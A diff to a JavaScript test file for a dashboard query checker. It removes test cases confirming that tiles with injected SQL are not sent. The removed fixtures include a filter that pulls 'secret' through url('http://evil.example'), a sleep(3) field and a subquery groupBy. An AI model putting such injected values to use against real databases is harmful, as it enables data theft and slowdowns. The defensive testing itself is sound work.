@@ -74,23 +74,17 @@ test("queries that fail are warnings, and queries without events notes", async (
   expect(chartRequests).toBeLessThanOrEqual(9);
 });
 
-test("raw SQL, filters that read more than the source, and words without a column are not sent", async () => {
+test("raw SQL and texts are not sent", async () => {
   const config = { configType: "sql", displayType: "line", connectionId: "x", sqlTemplate: "SELECT 1" };
   const found = await tryStack({
     "dashboards/shop.yaml": dashboard(
       { name: "SQL", x: 0, y: 0, w: 6, h: 3, config },
       { name: "Text", x: 0, y: 0, w: 6, h: 3, config: { displayType: "markdown", markdown: "# Hi" } },
-      tileOf("Secrets", sql("Body IN (SELECT secret FROM url('http://evil.example'))")),
-      tileOf("Slow", { field: "sleep(3)", aggFn: "max" }),
-      tileOf("Grouped", { groupBy: ["(SELECT 1)"] }),
     ),
   });
   expect(found.warnings).toEqual([]);
   expect(found.notes).toEqual([
     'Queries not tried: tile "SQL" of dashboard shop: raw SQL, which chart queries cannot run.',
-    'Queries not tried: tile "Secrets" of dashboard shop: it contains SELECT, url().',
-    'Queries not tried: tile "Slow" of dashboard shop: it contains sleep().',
-    'Queries not tried: tile "Grouped" of dashboard shop: it contains SELECT.',
   ]);
   expect(chartRequests).toBe(0);
 });
